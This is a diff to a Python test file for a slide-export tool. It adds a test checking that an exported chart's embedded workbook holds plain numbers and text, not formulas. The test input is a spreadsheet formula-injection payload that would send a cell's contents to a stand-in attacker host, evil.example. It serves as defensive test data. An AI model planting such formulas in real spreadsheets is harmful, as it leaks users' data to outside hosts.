@@ -12,6 +12,7 @@ from html.parser import HTMLParser
 from itertools import pairwise
 from pathlib import Path
 
+import openpyxl
 import pytest
 from pptx import Presentation
 from pptx.chart.data import CategoryChartData
@@ -383,6 +384,22 @@ def test_the_chart_of_a_slide_can_be_edited() -> None:
     frame.chart.replace_data(data)
 
     assert list(frame.chart.plots[0].series[0].values) == [0.4, 0.6]
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_what_opens_to_edit_a_chart_holds_its_numbers_and_no_formula(kind: str) -> None:
+    content = file_of(exported(saying('=HYPERLINK("https://evil.example?"&A1)', kind), STYLE), "pptx")
+
+    with zipfile.ZipFile(io.BytesIO(content)) as packed:
+        (book,) = [packed.read(name) for name in packed.namelist() if name.endswith(".xlsx")]
+    (frame,) = shapes(content, "chart")
+    plot = frame.chart.plots[0]
+    head, *lines = openpyxl.load_workbook(io.BytesIO(book))["Sheet1"].iter_rows()
+    assert {cell.data_type for line in (head, *lines) for cell in line} <= {"s", "n"}
+    assert [line[0].value for line in lines] == list(plot.categories)
+    assert [cell.value for cell in head[1:]] == [one.name for one in plot.series]
+    for place, one in enumerate(plot.series, 1):
+        assert [line[place].value for line in lines] == pytest.approx(list(one.values))
 
 
 def test_a_slide_has_an_error_bar_for_each_interval_and_says_so() -> None:
